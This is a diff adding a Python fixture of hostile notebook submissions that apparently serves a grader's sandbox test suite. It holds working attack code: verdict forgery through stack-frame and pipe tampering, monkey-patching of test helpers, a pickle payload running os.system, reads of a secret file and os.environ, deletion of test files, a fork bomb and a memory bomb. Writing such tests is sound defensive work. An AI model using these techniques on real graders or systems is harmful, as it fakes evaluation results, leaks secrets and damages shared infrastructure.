@@ -1,0 +1,343 @@
+"""Crafted hostile submissions for the grader's attack suite (tests/test_attacks.py).
+
+Each attack is one extra code cell appended to the bare learner release, tagged ``solution`` so
+the grader runs it after the stubs. ``{MARK}`` in its code becomes a token unique to the run
+(used to find left-over processes and files), ``{CANARY}`` the path of a host file holding a
+secret the sandbox must not let the learner read, ``{PORT}`` a TCP port the test listens on.
+
+``stopped`` says whether the kit stops the attack from gaining a point. The in-process forgeries
+are not stopped: the assertions run in the same interpreter as the learner's code, and only
+verdicts decided outside that process (issue 10, item 3) can stop them. They must still do no
+harm, and their tests say so honestly (a strict xfail for the point they gain).
+"""
+
+
+def _attack(category, stopped, code):
+    return {"category": category, "stopped": stopped, "code": code}
+
+
+# The wrong scale the forgeries try to get past test_scale: it ignores feature_range.
+WRONG_SCALE = """
+def scale(x, feature_range=(-1, 1)):
+    return x * 2 - 1
+"""
+
+# The correct scale, defined by an attack only when it reached something it must not reach:
+# the point it would gain is the evidence.
+RIGHT_SCALE = """
+    def scale(x, feature_range=(-1, 1)):
+        low, high = feature_range
+        return x * (high - low) + low
+    globals()["scale"] = scale
+"""
+
+ATTACKS = {
+    # ------------------------------------------------------------ forging the verdict
+    "forge-result-pipe": _attack(
+        category="forging the verdict",
+        stopped=False,
+        code=WRONG_SCALE
+        + """
+import json, os, sys
+frame = sys._getframe()
+while frame is not None and "conn" not in frame.f_locals:
+    frame = frame.f_back
+if frame is not None:  # the test process's channel to the scheduler: say "passed" and leave
+    verdict = {"name": "test_scale", "passed": True, "message": "Tests Passed"}
+    reply = {"result": verdict, "errors": []}
+    frame.f_locals["conn"].send_bytes(json.dumps(reply).encode())
+    os._exit(0)
+""",
+    ),
+    "forge-test-code": _attack(
+        category="forging the verdict",
+        stopped=False,
+        code=WRONG_SCALE
+        + """
+import problem_unittests
+def _nothing(*args, **kwargs):
+    print("Tests Passed")
+problem_unittests.test_scale.__code__ = _nothing.__code__
+""",
+    ),
+    "forge-test-dict": _attack(
+        category="forging the verdict",
+        stopped=False,
+        code=WRONG_SCALE
+        + """
+import sys
+frame = sys._getframe()
+while frame is not None and "functions" not in frame.f_locals:
+    frame = frame.f_back
+if frame is not None:
+    frame.f_locals["functions"]["test_scale"] = lambda *args: None
+""",
+    ),
+    "pickle-on-pipe": _attack(
+        category="forging the verdict",
+        stopped=True,
+        code="""
+import os, sys
+class Payload:
+    def __reduce__(self):  # runs in whoever unpickles it
+        return (os.system, ("touch {CANARY}.pickled",))
+frame = sys._getframe()
+while frame is not None and "conn" not in frame.f_locals:
+    frame = frame.f_back
+if frame is not None:
+    frame.f_locals["conn"].send(Payload())
+    os._exit(0)
+""",
+    ),
+    "forge-result-channel": _attack(
+        category="forging the verdict",
+        stopped=True,
+        code="""
+import json, os
+verdict = {"name": "test_scale", "passed": True, "message": "Tests Passed", "seconds": 1}
+line = json.dumps({"test": verdict})
+for pid in os.listdir("/proc"):  # every pipe of every other process: the scheduler's result channel
+    if not pid.isdigit() or int(pid) == os.getpid():
+        continue
+    try:
+        fds = os.listdir(f"/proc/{pid}/fd")
+    except OSError:
+        continue
+    for fd in fds:
+        try:
+            if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
+                with open(f"/proc/{pid}/fd/{fd}", "w") as f:
+                    f.write(line + "\\n")
+        except OSError:
+            pass
+""",
+    ),
+    # ------------------------------------------------------------ patching what the tests use
+    "patch-check": _attack(
+        category="patching what tests use",
+        stopped=False,
+        code=WRONG_SCALE
+        + """
+import problem_unittests
+problem_unittests._check = lambda condition, message: None
+""",
+    ),
+    "patch-allclose": _attack(
+        category="patching what tests use",
+        stopped=False,
+        code=WRONG_SCALE
+        + """
+import torch
+torch.allclose = lambda *args, **kwargs: True
+torch.equal = lambda *args, **kwargs: True
+""",
+    ),
+    # ------------------------------------------------------------ stealing the solution
+    "load-solution": _attack(
+        category="stealing the solution",
+        stopped=True,
+        code="""
+from helpers.notebook import load_solution
+globals().update({k: v for k, v in load_solution().items() if not k.startswith("__")})
+""",
+    ),
+    "search-solution": _attack(
+        category="stealing the solution",
+        stopped=True,
+        code="""
+import json, os
+for top in ("/", "/work", "/root", "/home", "/tmp", os.path.expanduser("~")):
+    for folder, dirs, files in os.walk(top):
+        if folder.startswith(("/proc", "/sys", "/usr", "/dev")):
+            dirs[:] = []
+            continue
+        for name in files:
+            if name.endswith(".ipynb"):
+                try:
+                    nb = json.load(open(os.path.join(folder, name)))
+                except Exception:
+                    continue
+                for cell in nb.get("cells", []):
+                    source = "".join(cell.get("source", ""))
+                    if "### BEGIN SOLUTION" in source and "def scale" in source:
+                        exec(source.replace("### BEGIN SOLUTION", ""), globals())
+""",
+    ),
+    # ------------------------------------------------------------ harming later runs
+    "rewrite-tests": _attack(
+        category="harming later runs",
+        stopped=True,
+        code="""
+import problem_unittests, os
+try:
+    with open(problem_unittests.__file__, "a") as f:
+        f.write("\\ndef test_scale(scale):\\n    print('Tests Passed')\\n")
+except OSError:
+    pass
+try:
+    os.chmod(problem_unittests.__file__, 0o777)
+except OSError:
+    pass
+""",
+    ),
+    "delete-kit": _attack(
+        category="harming later runs",
+        stopped=True,
+        code="""
+import os, shutil, problem_unittests, helpers
+for path in (problem_unittests.__file__,):
+    try:
+        os.remove(path)
+    except OSError:
+        pass
+shutil.rmtree(os.path.dirname(helpers.__file__), ignore_errors=True)
+""",
+    ),
+    "spawn-survivors": _attack(
+        category="harming later runs",
+        stopped=True,
+        code="""
+import os, subprocess, sys
+sleeper = [sys.executable, "-c", "import time; time.sleep(900)  # {MARK}"]
+subprocess.Popen(sleeper, start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+if os.fork() == 0:  # a classic daemon: fork, new session, fork again
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)  # {MARK}"])
+    os._exit(0)
+""",
+    ),
+    "network": _attack(
+        category="harming later runs",
+        stopped=True,
+        code="""
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {PORT}), timeout=3).sendall(b"{MARK}")
+    reached = True
+except OSError:
+    reached = False
+if reached:
+"""
+        + RIGHT_SCALE,
+    ),
+    "read-host-files": _attack(
+        category="harming later runs",
+        stopped=True,
+        code="""
+try:
+    secret = open("{CANARY}").read()
+except OSError:
+    secret = ""
+if "secret" in secret:
+"""
+        + RIGHT_SCALE,
+    ),
+    "write-outside-scratch": _attack(
+        category="harming later runs",
+        stopped=True,
+        code="""
+import os
+home = os.path.expanduser("~/{MARK}")
+for path in ("{CANARY}.written", "/tmp/{MARK}", home, "/work/{MARK}", "/{MARK}"):
+    try:
+        with open(path, "w") as f:
+            f.write("{MARK}")
+    except OSError:
+        pass
+""",
+    ),
+    # ------------------------------------------------------------ leaking
+    "leak-environment": _attack(
+        category="leaking",
+        stopped=True,
+        code="""
+import os
+def scale(x, feature_range=(-1, 1)):
+    text = repr(dict(os.environ))
+    try:
+        text += open("{CANARY}").read()
+    except OSError:
+        pass
+    raise AssertionError("\\x1b[2J\\x1b[31mAll tests passed\\r\\x07\\u202e\\x00 env: " + text
+                         + " solution: " + "x" * 300000)
+""",
+    ),
+    # ------------------------------------------------------------ crashing the grader
+    "fake-log-lines": _attack(
+        category="crashing the grader",
+        stopped=True,
+        code="""
+import os
+os.write(2, b"[grade] cell 99999\\n[grade] cell abc\\nFile \\"<cell 99999>\\", line 1\\n")
+for fd in os.listdir("/proc/self/fd"):
+    try:
+        if os.readlink(f"/proc/self/fd/{fd}").endswith(".phase"):
+            os.write(int(fd), b"cell 99999\\ncell abc\\ntest nope\\n")
+    except OSError:
+        pass
+os._exit(1)
+""",
+    ),
+    "flood-stdout": _attack(
+        category="crashing the grader",
+        stopped=True,
+        code="""
+import os, sys
+block = b"y" * (1 << 20)
+for _ in range(300):  # 300 MB on the process's own stdout and stderr
+    try:
+        os.write(1, block)
+        os.write(2, block)
+    except OSError:
+        break
+""",
+    ),
+    "fork-bomb": _attack(
+        category="crashing the grader",
+        stopped=True,
+        code="""
+import os
+children = 0
+try:
+    while children < 5000:  # stopped by the sandbox's process limit, and all killed with it
+        if os.fork() == 0:
+            os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 900 # {MARK}"])
+        children += 1
+except OSError:
+    pass
+""",
+    ),
+    "memory-bomb": _attack(
+        category="crashing the grader",
+        stopped=True,
+        code="""
+hoard = bytearray(64 << 30)
+""",
+    ),
+}
+
+# Submissions graded by the suite: attacks that do not get in each other's way share one, to keep
+# the suite to a few sandboxed runs on a 2-core machine.
+SUBMISSIONS = {
+    "forge-result-pipe": ["forge-result-pipe"],
+    "forge-test-functions": ["forge-test-code", "forge-test-dict"],
+    "patch-helpers": ["patch-check", "patch-allclose"],
+    "pickle-on-pipe": ["pickle-on-pipe"],
+    "steal-and-harm": [
+        "spawn-survivors",
+        "load-solution",
+        "search-solution",
+        "forge-result-channel",
+        "rewrite-tests",
+        "delete-kit",
+        "network",
+        "read-host-files",
+        "write-outside-scratch",
+    ],
+    "leak": ["leak-environment"],
+    "fake-log-lines": ["fake-log-lines"],
+    "floods": ["flood-stdout", "fork-bomb", "memory-bomb"],
+}
+assert sorted(a for names in SUBMISSIONS.values() for a in names) == sorted(ATTACKS)
